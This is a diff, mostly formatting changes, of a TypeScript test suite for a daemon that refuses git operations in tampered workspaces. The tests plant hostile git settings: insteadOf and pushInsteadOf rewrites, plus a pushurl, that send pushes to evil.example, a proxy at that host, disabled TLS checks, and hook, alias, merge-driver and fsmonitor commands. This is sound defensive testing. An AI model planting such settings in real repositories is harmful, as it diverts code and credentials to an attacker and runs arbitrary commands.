@@ -21,7 +21,17 @@ interface Trap {
   runAll(): Promise<readonly OperationReply[]>;
 }
 
-const VALUES: Readonly<Record<string, unknown>> = { count: 3, number: 1, branch: "ai/x", body: "text", run_id: 1, comment_id: 1, path: "README.md", bucket: "s3://bucket", commit: "abcdef" };
+const VALUES: Readonly<Record<string, unknown>> = {
+  count: 3,
+  number: 1,
+  branch: "ai/x",
+  body: "text",
+  run_id: 1,
+  comment_id: 1,
+  path: "README.md",
+  bucket: "s3://bucket",
+  commit: "abcdef",
+};
 
 /** The template with programs that this machine has; what it lacks (gh, aws) is stood for by git, which is what gh runs by itself. */
 function templateProject(name: string, repo: string): ProjectConfig {
@@ -79,8 +89,8 @@ const PLANTS: Readonly<Record<string, (trap: Trap) => void>> = {
   },
   "a merge driver": ({ repo, command }) => git(repo, "config", "merge.x.driver", command),
   "an alias": ({ repo, command }) => git(repo, "config", "alias.log", `!${command}`),
-  "pushInsteadOf": ({ repo }) => git(repo, "config", "url.git@evil.example:x/.pushInsteadOf", "git@github.com:owner/"),
-  "insteadOf": ({ repo }) => git(repo, "config", "url.git@evil.example:x/.insteadOf", "git@github.com:owner/"),
+  pushInsteadOf: ({ repo }) => git(repo, "config", "url.git@evil.example:x/.pushInsteadOf", "git@github.com:owner/"),
+  insteadOf: ({ repo }) => git(repo, "config", "url.git@evil.example:x/.insteadOf", "git@github.com:owner/"),
   "insteadOf through an include": ({ repo }) => {
     writeFileSync(join(repo, "inc"), '[url "git@evil.example:x/"]\n\tinsteadOf = git@github.com:owner/\n');
     git(repo, "config", "include.path", "../inc");
@@ -93,7 +103,8 @@ const PLANTS: Readonly<Record<string, (trap: Trap) => void>> = {
     git(repo, "config", "extensions.worktreeConfig", "true");
     writeFileSync(join(repo, ".git/config.worktree"), `[core]\n\tfsmonitor = ${command}\n`);
   },
-  "a remote called like the URL": ({ repo }) => git(repo, "config", "remote.git@github.com:owner/repo.git.pushurl", "git@evil.example:x/y.git"),
+  "a remote called like the URL": ({ repo }) =>
+    git(repo, "config", "remote.git@github.com:owner/repo.git.pushurl", "git@evil.example:x/y.git"),
   "http.proxy": ({ repo }) => git(repo, "config", "http.proxy", "http://evil.example"),
   "http.sslVerify": ({ repo }) => git(repo, "config", "http.sslVerify", "false"),
   "http.extraHeader": ({ repo }) => git(repo, "config", "http.extraHeader", "X: y"),
@@ -111,7 +122,10 @@ describe("a hostile workspace", () => {
         const one = await trap(template);
         plant(one);
         for (const reply of await one.runAll()) {
-          expect([name, reply.denied_reason === null ? reply.stderr : reply.code]).toEqual([name, "workspace_untrusted"]);
+          expect([name, reply.denied_reason === null ? reply.stderr : reply.code]).toEqual([
+            name,
+            "workspace_untrusted",
+          ]);
           expect(reply.hint).not.toBe("");
         }
         expect([name, existsSync(one.marker)]).toEqual([name, false]);
@@ -124,7 +138,15 @@ describe("a hostile workspace", () => {
     const hooks = join(one.repo, place);
     if (place !== ".git/hooks") git(one.repo, "config", "core.hooksPath", place);
     mkdirSync(hooks, { recursive: true });
-    for (const name of ["pre-commit", "post-checkout", "post-index-change", "reference-transaction", "pre-push", "fsmonitor-watchman", "post-merge"]) {
+    for (const name of [
+      "pre-commit",
+      "post-checkout",
+      "post-index-change",
+      "reference-transaction",
+      "pre-push",
+      "fsmonitor-watchman",
+      "post-merge",
+    ]) {
       writeFileSync(join(hooks, name), `#!/bin/sh\n${one.command}\n`);
       chmodSync(join(hooks, name), 0o755);
     }
@@ -151,7 +173,11 @@ describe("a hostile workspace", () => {
       const base = new Base();
       base.writeProject("owner_repo", templateProject("local_demo", repo)).writeToken(TOKEN, { repo: "owner/repo" });
       const { address } = await startDaemon(base);
-      expectDenied(await run(address, { operation: "git_log", params: { count: 1 } }), "workspace refused", "workspace_untrusted");
+      expectDenied(
+        await run(address, { operation: "git_log", params: { count: 1 } }),
+        "workspace refused",
+        "workspace_untrusted",
+      );
     }
   });
 
@@ -165,7 +191,12 @@ describe("a hostile workspace", () => {
     const base = new Base();
     const commands = [join(repo, "tool"), join(directory, "innocent"), "tool"];
     const operations = Object.fromEntries(commands.map((command, index) => [`op${index}`, { command }]));
-    base.writeProject("owner_repo", { repos: ["owner/repo"], repo_paths: [repo], allowed_operations: Object.keys(operations), operations });
+    base.writeProject("owner_repo", {
+      repos: ["owner/repo"],
+      repo_paths: [repo],
+      allowed_operations: Object.keys(operations),
+      operations,
+    });
     base.writeToken(TOKEN, { repo: "owner/repo" });
     const { address } = await startDaemon(base, {}, { PATH: `${repo}:.::${process.env["PATH"] ?? ""}` });
     expect((await run(address, { operation: "op0" })).code).toBe("command_untrusted");
